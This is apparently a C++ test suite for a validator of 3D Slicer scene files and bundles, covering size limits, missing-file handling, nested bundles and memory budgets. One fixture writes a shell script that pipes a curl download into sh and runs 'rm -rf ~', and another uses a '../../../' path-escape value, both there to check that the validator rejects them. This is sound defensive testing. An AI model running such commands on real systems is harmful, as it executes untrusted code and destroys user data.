// SPDX-License-Identifier: BSD-3-Clause
// End-to-end tests of Validate / ValidateBytes: how the input is opened,
// sniffed and dispatched, and how findings from the layers meet.

#include "mrmlguard/validate.h"

#include <gtest/gtest.h>
#include <sys/stat.h>
#include <unistd.h>

#include <algorithm>
#include <cstdio>
#include <filesystem>
#include <fstream>
#include <string>
#include <vector>

#include "support/zip_builder.h"

namespace mrmlguard {
namespace {

namespace fs = std::filesystem;

std::span<const uint8_t> Bytes(const std::string& s) {
  return {reinterpret_cast<const uint8_t*>(s.data()), s.size()};
}

bool HasRule(const Report& r, std::string_view rule) {
  return std::any_of(r.findings.begin(), r.findings.end(), [&](const Finding& f) { return f.rule_id == rule; });
}

std::string Dump(const Report& r) {
  std::string out = "status=" + std::string(StatusCodeName(r.status.code())) + " " + r.status.message() + "\n";
  for (const Finding& f : r.findings) {
    out += std::string(SeverityName(f.severity)) + " [" + std::string(f.rule_id) + "] " + f.location.entry + ":" +
           std::to_string(f.location.line) + " " + f.message + "\n";
  }
  return out;
}

class TempDir {
 public:
  TempDir() {
    std::string tmpl = (fs::temp_directory_path() / "mrmlguard_pipeline_XXXXXX").string();
    std::vector<char> buf(tmpl.begin(), tmpl.end());
    buf.push_back('\0');
    path_ = mkdtemp(buf.data());
  }
  ~TempDir() {
    std::error_code ec;
    fs::remove_all(path_, ec);
  }
  std::string Write(const std::string& name, const std::string& content) const {
    fs::path p = fs::path(path_) / name;
    fs::create_directories(p.parent_path());
    std::ofstream(p, std::ios::binary) << content;
    return p.string();
  }
  const std::string& path() const { return path_; }

 private:
  std::string path_;
};

constexpr char kMinimalScene[] =
    "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n"
    "<MRML version=\"Slicer 5.8.1 33241\" userTags=\"\">\n"
    " <Selection id=\"vtkMRMLSelectionNodeSingleton\" name=\"Selection\" singletonTag=\"Singleton\"></Selection>\n"
    "</MRML>\n";

TEST(ValidateBytesTest, EmptyInputIsAStatusNotAFinding) {
  Report r = ValidateBytes({}, "x.mrml", Policy::Default());
  EXPECT_EQ(r.status.code(), StatusCode::kEmptyInput);
  EXPECT_FALSE(r.accepted());
}

TEST(ValidateBytesTest, UnknownContentIsRejected) {
  Report r = ValidateBytes(Bytes("GIF89a not a scene"), "x.mrml", Policy::Default());
  EXPECT_TRUE(r.status.ok());
  EXPECT_TRUE(HasRule(r, "input.unknown-format")) << Dump(r);
  EXPECT_EQ(r.verdict, Verdict::kRejected);
  EXPECT_EQ(r.kind, InputKind::kUnknown);
}

TEST(ValidateBytesTest, MinimalSceneIsAccepted) {
  Report r = ValidateBytes(Bytes(kMinimalScene), "scene.mrml", Policy::Default());
  EXPECT_TRUE(r.accepted()) << Dump(r);
  EXPECT_EQ(r.kind, InputKind::kScene);
  EXPECT_EQ(r.stats.nodes, 1u);  // elements below <MRML>
}

TEST(ValidateBytesTest, SceneNamedLikeABundleIsFlagged) {
  Report r = ValidateBytes(Bytes(kMinimalScene), "scene.mrb", Policy::Default());
  EXPECT_TRUE(HasRule(r, "input.extension-mismatch")) << Dump(r);
  EXPECT_TRUE(r.accepted());  // a warning in the default profile
  Report strict = ValidateBytes(Bytes(kMinimalScene), "scene.mrb", Policy::Strict());
  EXPECT_FALSE(strict.accepted());
}

TEST(ValidateBytesTest, InputOverTheSizeLimitIsRefusedBeforeReading) {
  Policy p;
  p.limits.max_input_bytes = 10;
  Report r = ValidateBytes(Bytes(kMinimalScene), "scene.mrml", p);
  ASSERT_EQ(r.findings.size(), 1u) << Dump(r);
  EXPECT_EQ(r.findings[0].rule_id, "input.limit-exceeded");
  EXPECT_EQ(r.findings[0].limit, "max_input_bytes");
  EXPECT_FALSE(r.accepted());
}

TEST(ValidateBytesTest, TurningAStoppingRuleOffStillFailsClosed) {
  Policy p;
  p.overrides.push_back({"xml.doctype", Severity::kOff});
  std::string doc = "<!DOCTYPE MRML [<!ENTITY a \"b\">]><MRML>&a;</MRML>";
  Report r = ValidateBytes(Bytes(doc), "scene.mrml", p);
  EXPECT_FALSE(r.accepted()) << Dump(r);
  EXPECT_TRUE(HasRule(r, "xml.malformed")) << Dump(r);
}

TEST(ValidateBytesTest, UnknownRuleInOverrideIsAnInvalidArgument) {
  Policy p;
  p.overrides.push_back({"no.such-rule", Severity::kOff});
  Report r = ValidateBytes(Bytes(kMinimalScene), "scene.mrml", p);
  EXPECT_EQ(r.status.code(), StatusCode::kInvalidArgument);
}

TEST(ValidateTest, UnreadableInputsAreStatusErrors) {
  TempDir dir;
  EXPECT_EQ(Validate(dir.path() + "/missing.mrml", Policy::Default()).status.code(), StatusCode::kIoError);
  Report d = Validate(dir.path(), Policy::Default());
  EXPECT_EQ(d.status.code(), StatusCode::kIoError);
  EXPECT_EQ(d.status.message(), "is a directory");
  EXPECT_EQ(Validate(dir.Write("empty.mrml", ""), Policy::Default()).status.code(), StatusCode::kEmptyInput);
  std::string fifo = dir.path() + "/fifo.mrml";
  ASSERT_EQ(mkfifo(fifo.c_str(), 0600), 0);
  Report f = Validate(fifo, Policy::Default());  // must not block
  EXPECT_EQ(f.status.code(), StatusCode::kIoError);
  EXPECT_EQ(f.status.message(), "not a regular file");
}

TEST(ValidateTest, FileOverTheSizeLimitNamesTheLimit) {
  TempDir dir;
  Policy p;
  p.limits.max_input_bytes = 16;
  Report r = Validate(dir.Write("scene.mrml", kMinimalScene), p);
  EXPECT_TRUE(r.status.ok());
  ASSERT_FALSE(r.findings.empty());
  EXPECT_EQ(r.findings[0].rule_id, "input.limit-exceeded");
  EXPECT_NE(r.findings[0].message.find("max_input_bytes (16)"), std::string::npos);
  EXPECT_EQ(r.stats.bytes_read, 0u);
}

TEST(ValidateTest, PlainSceneDataFilesAreLookedUpNextToIt) {
  TempDir dir;
  std::string scene =
      "<MRML version=\"Slicer 5.8.1 33241\">\n"
      " <Volume id=\"vtkMRMLScalarVolumeNode1\" name=\"v\" storageNodeRef=\"vtkMRMLVolumeArchetypeStorageNode1\""
      " displayNodeRef=\"\"></Volume>\n"
      " <VolumeArchetypeStorage id=\"vtkMRMLVolumeArchetypeStorageNode1\" name=\"s\""
      " fileName=\"Data/missing.nrrd\"></VolumeArchetypeStorage>\n"
      "</MRML>\n";
  Report r = Validate(dir.Write("scene.mrml", scene), Policy::Default());
  EXPECT_TRUE(HasRule(r, "mrml.storage.missing")) << Dump(r);
  EXPECT_TRUE(r.status.ok());
}

// Issue 18: a .seg.vtm segmentation lists its .vtp blocks as fileListMembers
// (vtkMRMLSegmentationStorageNode::AddPolyDataFileNames). They are read by
// vtkXMLMultiBlockDataReader through the .seg.vtm, so SegmentationStorage's
// extension list does not apply to them; their content still does.
TEST(ValidateTest, SegmentationListMembersAreReadByTheirOwnReader) {
  TempDir dir;
  const std::string vtp =
      "<?xml version=\"1.0\"?>\n<VTKFile type=\"PolyData\" version=\"1.0\" byte_order=\"LittleEndian\">"
      "<PolyData><Piece NumberOfPoints=\"0\" NumberOfVerts=\"0\" NumberOfLines=\"0\" NumberOfStrips=\"0\""
      " NumberOfPolys=\"0\"></Piece></PolyData></VTKFile>\n";
  dir.Write("Seg.seg.vtm",
            "<?xml version=\"1.0\"?>\n<VTKFile type=\"vtkMultiBlockDataSet\" version=\"1.0\">"
            "<vtkMultiBlockDataSet><DataSet index=\"0\" file=\"Seg/Seg_0.vtp\"/></vtkMultiBlockDataSet></VTKFile>\n");
  dir.Write("Seg/Seg_0.vtp", vtp);
  auto scene = [](const std::string& member) {
    return "<MRML version=\"Slicer4.8.1\">\n"
           " <Segmentation id=\"vtkMRMLSegmentationNode1\" name=\"s\""
           " storageNodeRef=\"vtkMRMLSegmentationStorageNode1\"></Segmentation>\n"
           " <SegmentationStorage id=\"vtkMRMLSegmentationStorageNode1\" name=\"ss\" fileName=\"Seg.seg.vtm\""
           " fileListMember0=\"Seg.seg.vtm\" fileListMember1=\"" +
           member + "\"></SegmentationStorage>\n</MRML>\n";
  };
  Report ok = Validate(dir.Write("scene.mrml", scene("Seg/Seg_0.vtp")), Policy::Default());
  EXPECT_TRUE(ok.accepted()) << Dump(ok);
  EXPECT_FALSE(HasRule(ok, "data.magic-mismatch")) << Dump(ok);
  // A member whose content is not what its extension says is still refused.
  dir.Write("Seg/Seg_1.vtp", "#!/bin/sh\ncurl x | sh\nrm -rf ~\n");
  Report bad = Validate(dir.Write("scene2.mrml", scene("Seg/Seg_1.vtp")), Policy::Default());
  EXPECT_FALSE(bad.accepted()) << Dump(bad);
  // As the storage node's fileName, a .vtp is not what SegmentationStorage reads.
  std::string main_vtp = "<MRML version=\"Slicer4.8.1\">\n"
                         " <Segmentation id=\"vtkMRMLSegmentationNode1\" name=\"s\""
                         " storageNodeRef=\"vtkMRMLSegmentationStorageNode1\"></Segmentation>\n"
                         " <SegmentationStorage id=\"vtkMRMLSegmentationStorageNode1\" name=\"ss\""
                         " fileName=\"Seg/Seg_0.vtp\"></SegmentationStorage>\n</MRML>\n";
  Report main = Validate(dir.Write("scene3.mrml", main_vtp), Policy::Default());
  EXPECT_TRUE(HasRule(main, "data.magic-mismatch") || HasRule(main, "mrml.storage.extension")) << Dump(main);
}

TEST(ValidateTest, RealBundleIsAcceptedWithSlicersMainScene) {
  std::string path = std::string(MRMLGUARD_SOURCE_DIR) + "/corpus/bundles/cube.mrb";
  if (!fs::exists(path)) GTEST_SKIP() << "corpus/bundles/cube.mrb not present";
  Report r = Validate(path, Policy::Default());
  EXPECT_TRUE(r.accepted()) << Dump(r);
  EXPECT_EQ(r.kind, InputKind::kBundle);
  EXPECT_EQ(r.main_scene, "cube/cube.mrml");
  EXPECT_GT(r.stats.entries, 1u);
  EXPECT_GT(r.stats.bytes_inflated, 0u);
}

std::string PlainSceneReading(const std::string& tag, const std::string& storage_tag, const std::string& file) {
  return "<MRML version=\"Slicer 5.8.1 33241\">\n <" + tag + " id=\"n1\" name=\"n\" storageNodeRef=\"s1\"></" + tag +
         ">\n <" + storage_tag + " id=\"s1\" name=\"s\" fileName=\"" + file + "\"></" + storage_tag + ">\n</MRML>\n";
}

TEST(ValidateTest, BundleBesideAPlainSceneIsJudgedAsANestedBundle) {
  // Issue 12 part 3: SequenceStorage unpacks the .seq.mrb next to the scene.
  TempDir dir;
  std::string inner_scene =
      "<MRML version=\"Slicer 5.8.1 33241\">\n"
      " <Model id=\"vtkMRMLModelNode4\" name=\"m\" storageNodeRef=\"vtkMRMLModelStorageNode1\"></Model>\n"
      " <ModelStorage id=\"vtkMRMLModelStorageNode1\" name=\"s\" fileName=\"../../../escape.vtk\"></ModelStorage>\n"
      "</MRML>\n";
  dir.Write("Data/seq.seq.mrb", test_support::ZipBuilder().Entry("Seq/Seq.mrml", inner_scene).BuildString());
  Report r = Validate(dir.Write("scene.mrml", PlainSceneReading("Sequence", "SequenceStorage", "Data/seq.seq.mrb")),
                      Policy::Default());
  auto it = std::find_if(r.findings.begin(), r.findings.end(),
                         [](const Finding& f) { return f.rule_id == std::string_view("bundle.storage-outside"); });
  ASSERT_NE(it, r.findings.end()) << Dump(r);
  EXPECT_EQ(it->location.entry, "Data/seq.seq.mrb!Seq/Seq.mrml");
  EXPECT_FALSE(r.accepted());
  EXPECT_GT(r.stats.bytes_inflated, 0u);
  // Same limits as a nested bundle: max_nested_bundle_bytes, max_bundle_depth.
  Policy small = Policy::Default();
  small.limits.max_nested_bundle_bytes = 16;
  Report big = Validate(dir.path() + "/scene.mrml", small);
  auto limit = std::find_if(big.findings.begin(), big.findings.end(),
                            [](const Finding& f) { return f.limit == "max_nested_bundle_bytes"; });
  ASSERT_NE(limit, big.findings.end()) << Dump(big);
  EXPECT_EQ(limit->rule_id, std::string_view("zip.limit-exceeded"));
  Policy flat = Policy::Default();
  flat.limits.max_bundle_depth = 0;
  EXPECT_TRUE(HasRule(Validate(dir.path() + "/scene.mrml", flat), "bundle.nesting-too-deep"));
}

TEST(ValidateTest, PlainSceneImagesAreBudgetedAndTheirPayloadsSized) {
  TempDir dir;
  dir.Write("v.nrrd",
            "NRRD0004\ntype: unsigned short\ndimension: 3\nsizes: 512 512 512\nencoding: gzip\nendian: little\n\n"
            "x");
  Report r = Validate(dir.Write("scene.mrml", PlainSceneReading("Volume", "VolumeArchetypeStorage", "v.nrrd")),
                      Policy::Default());
  EXPECT_TRUE(HasRule(r, "bundle.payload-ratio")) << Dump(r);
  Policy tight = Policy::Default();
  tight.limits.max_scene_load_bytes = (256u << 20) - 1;
  Report t = Validate(dir.path() + "/scene.mrml", tight);
  EXPECT_TRUE(HasRule(t, "bundle.load-memory")) << Dump(t);
  tight.limits.max_scene_load_bytes = 256u << 20;
  EXPECT_FALSE(HasRule(Validate(dir.path() + "/scene.mrml", tight), "bundle.load-memory"));
}

// A scene may name up to max_nodes files that are not there; after a few
// misses in one folder SceneFolder lists it once instead of asking the
// kernel for each name. The listing only ever says "missing": every name
// that exists is still opened and judged, wherever it comes in the scene,
// and every missing one is still reported, with the kernel's wording.
TEST(ValidateTest, ManyMissingFilesDoNotHideTheOnesThatExist) {
  TempDir dir;
  const std::string bad_image =
      "NRRD0004\ntype: unsigned short\ndimension: 3\nsizes: 512 512 512\nencoding: gzip\nendian: little\n\nx";
  dir.Write("Late.nrrd", bad_image);
  dir.Write("Data/Later.nrrd", bad_image);
  std::string scene = "<MRML version=\"Slicer 5.8.1 33241\">\n";
  int id = 0;
  auto node = [&](const std::string& file) {
    ++id;
    scene += " <Volume id=\"v" + std::to_string(id) + "\" name=\"n\" storageNodeRef=\"s" + std::to_string(id) +
             "\"></Volume>\n <VolumeArchetypeStorage id=\"s" + std::to_string(id) + "\" name=\"s\" fileName=\"" +
             file + "\"></VolumeArchetypeStorage>\n";
  };
  for (int i = 0; i < 150; ++i) node("m" + std::to_string(i) + ".nrrd");
  for (int i = 0; i < 150; ++i) node("Data/m" + std::to_string(i) + ".nrrd");
  for (int i = 0; i < 150; ++i) node("NoFolder/m" + std::to_string(i) + ".nrrd");
  node("Late.nrrd");
  node("Data/Later.nrrd");
  node("late.nrrd");  // another name on a case-sensitive folder: the kernel decides
  node("./Late.nrrd/");
  scene += "</MRML>\n";
  Report r = Validate(dir.Write("scene.mrml", scene), Policy::Default());
  size_t missing = 0;
  for (const Finding& f : r.findings) {
    if (f.rule_id != std::string_view("mrml.storage.missing")) continue;
    ++missing;
    const bool trailing_slash = f.message.find("\"./Late.nrrd/\"") != std::string::npos;
    EXPECT_NE(f.message.find(trailing_slash ? "(Not a directory)" : "(No such file or directory)"), std::string::npos)
        << f.message;
  }
  const bool case_sensitive = !fs::exists(fs::path(dir.path()) / "late.nrrd");
  EXPECT_EQ(missing, 450u + (case_sensitive ? 1u : 0u) + 1u) << Dump(r);  // and "./Late.nrrd/"
  size_t judged = 0;
  for (const Finding& f : r.findings) {
    if (f.rule_id == std::string_view("bundle.payload-ratio")) ++judged;
  }
  EXPECT_GE(judged, 1u) << Dump(r);
  EXPECT_TRUE(std::any_of(r.findings.begin(), r.findings.end(), [](const Finding& f) {
    return f.rule_id == std::string_view("bundle.payload-ratio") && f.location.entry == "Data/Later.nrrd";
  })) << Dump(r);
}

// The files data headers name are looked up one by one, so the check's
// total is bounded (max_total_detached_files): a ~60-byte pattern line names
// 10,000 files, and 1,000 such headers beside a plain scene took 55 s. The
// bound holds for headers in a bundle, beside a plain scene, and for one
// header looked up in several folders (hard links).
std::string DetachedHeader(int files) {
  return "NRRD0004\ntype: uchar\ndimension: 3\nsizes: 4 4 " + std::to_string(files) +
         "\nencoding: raw\ndata file: s%03d.raw 1 " + std::to_string(files) + " 1 2\n";
}

std::string VolumesScene(const std::vector<std::string>& files) {
  std::string scene = "<MRML version=\"Slicer 5.8.1 33241\">\n";
  for (size_t i = 0; i < files.size(); ++i) {
    const std::string n = std::to_string(i);
    scene += " <Volume id=\"v" + n + "\" name=\"n\" storageNodeRef=\"s" + n +
             "\"></Volume>\n <VolumeArchetypeStorage id=\"s" + n + "\" name=\"s\" fileName=\"" + files[i] +
             "\"></VolumeArchetypeStorage>\n";
  }
  return scene + "</MRML>\n";
}

const Finding* FindLimit(const Report& r, std::string_view limit) {
  auto it = std::find_if(r.findings.begin(), r.findings.end(), [&](const Finding& f) { return f.limit == limit; });
  return it == r.findings.end() ? nullptr : &*it;
}

TEST(ValidateTest, DetachedFilesAreBoundedOverTheWholeCheck) {
  TempDir dir;
  for (int i = 0; i < 3; ++i) dir.Write("v" + std::to_string(i) + ".nhdr", DetachedHeader(4));
  const std::string scene = dir.Write("scene.mrml", VolumesScene({"v0.nhdr", "v1.nhdr", "v2.nhdr"}));
  Policy p = Policy::Default();
  p.limits.max_total_detached_files = 12;
  Report at = Validate(scene, p);
  EXPECT_EQ(FindLimit(at, "max_total_detached_files"), nullptr) << Dump(at);
  p.limits.max_total_detached_files = 11;
  Report over = Validate(scene, p);
  const Finding* f = FindLimit(over, "max_total_detached_files");
  ASSERT_NE(f, nullptr) << Dump(over);
  EXPECT_EQ(f->rule_id, std::string_view("data.limit-exceeded"));
  EXPECT_EQ(f->location.entry, "v2.nhdr");
  EXPECT_FALSE(over.accepted());

  // The same headers in a bundle.
  test_support::ZipBuilder b;
  b.Directory("S/").Entry("S/S.mrml", VolumesScene({"Data/v0.nhdr", "Data/v1.nhdr", "Data/v2.nhdr"}));
  for (int i = 0; i < 3; ++i) b.Entry("S/Data/v" + std::to_string(i) + ".nhdr", DetachedHeader(4));
  const std::string zip = b.BuildString();
  p.limits.max_total_detached_files = 12;
  EXPECT_EQ(FindLimit(ValidateBytes(Bytes(zip), "S.mrb", p), "max_total_detached_files"), nullptr);
  p.limits.max_total_detached_files = 11;
  Report bundle = ValidateBytes(Bytes(zip), "S.mrb", p);
  ASSERT_NE(FindLimit(bundle, "max_total_detached_files"), nullptr) << Dump(bundle);
  EXPECT_EQ(FindLimit(bundle, "max_total_detached_files")->location.entry, "S/Data/v2.nhdr");

  // One header, read once, but looked up in two folders (a hard link).
  TempDir linked;
  const std::string first = linked.Write("a/v.nhdr", DetachedHeader(4));
  fs::create_directories(fs::path(linked.path()) / "b");
  fs::create_hard_link(first, fs::path(linked.path()) / "b" / "v.nhdr");
  const std::string two = linked.Write("scene.mrml", VolumesScene({"a/v.nhdr", "b/v.nhdr"}));
  p.limits.max_total_detached_files = 8;
  EXPECT_EQ(FindLimit(Validate(two, p), "max_total_detached_files"), nullptr);
  p.limits.max_total_detached_files = 7;
  Report twice = Validate(two, p);
  ASSERT_NE(FindLimit(twice, "max_total_detached_files"), nullptr) << Dump(twice);
  EXPECT_FALSE(twice.accepted());
}

// Detached names are looked up like storage paths: past a few misses the
// folder is listed once, and a name that exists is still found.
TEST(ValidateTest, ManyMissingDetachedFilesDoNotHideTheOneThatExists) {
  TempDir dir;
  dir.Write("v.nhdr", DetachedHeader(200));
  dir.Write("s150.raw", std::string(16, 'x'));
  Report r = Validate(dir.Write("scene.mrml", VolumesScene({"v.nhdr"})), Policy::Default());
  size_t missing = 0;
  for (const Finding& f : r.findings) {
    if (f.rule_id != std::string_view("mrml.storage.missing")) continue;
    ++missing;
    EXPECT_EQ(f.message.find("\"s150.raw\""), std::string::npos) << f.message;
  }
  EXPECT_EQ(missing, 199u) << Dump(r);
}

TEST(ValidateTest, PlainSceneMeshesAreBudgeted) {
  // Issue 17 part 3: a binary STL of 6 triangles asks vtkSTLReader for
  // 6 x 160 bytes (lib/data/load_bounds.cc); the budget counts it.
  TempDir dir;
  dir.Write("m.stl", std::string(80, 'h') + std::string("\x06\0\0\0", 4) + std::string(300, '\0'));
  const std::string scene = dir.Write("scene.mrml", PlainSceneReading("Model", "ModelStorage", "m.stl"));
  Report ok = Validate(scene, Policy::Default());
  EXPECT_TRUE(ok.accepted()) << Dump(ok);
  Policy tight = Policy::Default();
  tight.limits.max_scene_load_bytes = 960;
  EXPECT_FALSE(HasRule(Validate(scene, tight), "bundle.load-memory"));
  tight.limits.max_scene_load_bytes = 959;
  Report t = Validate(scene, tight);
  EXPECT_TRUE(HasRule(t, "bundle.load-memory")) << Dump(t);
  // A count the file cannot hold is refused from the declaration.
  dir.Write("m.stl", std::string(80, 'h') + std::string("\x07\0\0\0", 4) + std::string(300, '\0'));
  EXPECT_TRUE(HasRule(Validate(scene, Policy::Default()), "data.size-mismatch"));
}

// Issue 13: a plain scene whose storage nodes all name one big file made the
// check read it once per node (200 nodes and a 60 MB table: 12 GB read, 64 s).
// A file is read and judged once per way of reading it, whatever name
// reaches it; every node still counts its load.
std::string ManyReadings(const std::vector<std::pair<std::string, std::string>>& storage_and_file) {
  std::string scene = "<MRML version=\"Slicer 5.8.1 33241\">\n";
  for (size_t i = 0; i < storage_and_file.size(); ++i) {
    const std::string n = std::to_string(i + 1);
    scene += " <Model id=\"m" + n + "\" name=\"m\" storageNodeRef=\"s" + n + "\"></Model>\n <" +
             storage_and_file[i].first + " id=\"s" + n + "\" name=\"s\" fileName=\"" + storage_and_file[i].second +
             "\"></" + storage_and_file[i].first + ">\n";
  }
  return scene + "</MRML>\n";
}

TEST(ValidateTest, PlainSceneFileNamedManyTimesIsReadOnce) {
  TempDir dir;
  // 6 triangles: 960 bytes of vtkSTLReader load (see the test above).
  dir.Write("m.stl", std::string(80, 'h') + std::string("\x06\0\0\0", 4) + std::string(300, '\0'));
  dir.Write("sub/keep", "");
  ASSERT_EQ(::link((dir.path() + "/m.stl").c_str(), (dir.path() + "/sub/other.stl").c_str()), 0);
  ASSERT_EQ(::symlink("m.stl", (dir.path() + "/link.stl").c_str()), 0);
  const std::string scene = dir.Write(
      "scene.mrml", ManyReadings({{"ModelStorage", "m.stl"},
                                  {"ModelStorage", "./m.stl"},
                                  {"ModelStorage", "sub/../m.stl"},
                                  {"ModelStorage", "sub/other.stl"},
                                  {"ModelStorage", "link.stl"}}));
  Report r = Validate(scene, Policy::Default());
  EXPECT_TRUE(r.accepted()) << Dump(r);
  EXPECT_EQ(r.stats.data_files, 1u) << Dump(r);
  // Five nodes load it five times: 4,800 bytes.
  Policy tight = Policy::Default();
  tight.limits.max_scene_load_bytes = 4800;
  EXPECT_FALSE(HasRule(Validate(scene, tight), "bundle.load-memory"));
  tight.limits.max_scene_load_bytes = 4799;
  Report t = Validate(scene, tight);
  EXPECT_TRUE(HasRule(t, "bundle.load-memory")) << Dump(t);
  EXPECT_EQ(t.stats.data_files, 1u);
}

TEST(ValidateTest, PlainSceneFileReadAnotherWayIsJudgedAgain) {
  TempDir dir;
  dir.Write("t.txt", "# a text file\nhello\n");
  ASSERT_EQ(::link((dir.path() + "/t.txt").c_str(), (dir.path() + "/t.csv").c_str()), 0);
  // Another storage class, another extension: each is a reading of its own.
  Report r = Validate(dir.Write("a.mrml", ManyReadings({{"TextStorage", "t.txt"},
                                                        {"TableStorage", "t.txt"},
                                                        {"TableStorage", "t.csv"},
                                                        {"TableStorage", "./t.csv"}})),
                      Policy::Default());
  EXPECT_EQ(r.stats.data_files, 3u) << Dump(r);
  // Tags Slicer skips name no file that is read.
  Report u = Validate(dir.Write("b.mrml", ManyReadings({{"FooMarkupsStorage", "t.txt"},
                                                        {"BarMarkupsStorage", "t.txt"},
                                                        {"FooStorage", "t.txt"},
                                                        {"BarStorage", "t.txt"}})),
                      Policy::Default());
  EXPECT_EQ(u.stats.data_files, 0u) << Dump(u);
}

TEST(ValidateTest, PlainSceneAnalyzeHeaderUnderAnotherNameFindsItsOwnImage) {
  // A .hdr's image file is derived from its base name (nifti.cc), so a link
  // under another name is another reading: b.hdr needs b.img.
  TempDir dir;
  std::string hdr(348, '\0');
  hdr[0] = '\x5c';
  hdr[1] = '\x01';  // sizeof_hdr 348, little endian
  dir.Write("a.hdr", hdr);
  ASSERT_EQ(::link((dir.path() + "/a.hdr").c_str(), (dir.path() + "/b.hdr").c_str()), 0);
  Report r = Validate(dir.Write("scene.mrml", ManyReadings({{"VolumeArchetypeStorage", "a.hdr"},
                                                            {"VolumeArchetypeStorage", "b.hdr"}})),
                      Policy::Default());
  EXPECT_EQ(r.stats.data_files, 2u) << Dump(r);
}

}  // namespace
}  // namespace mrmlguard
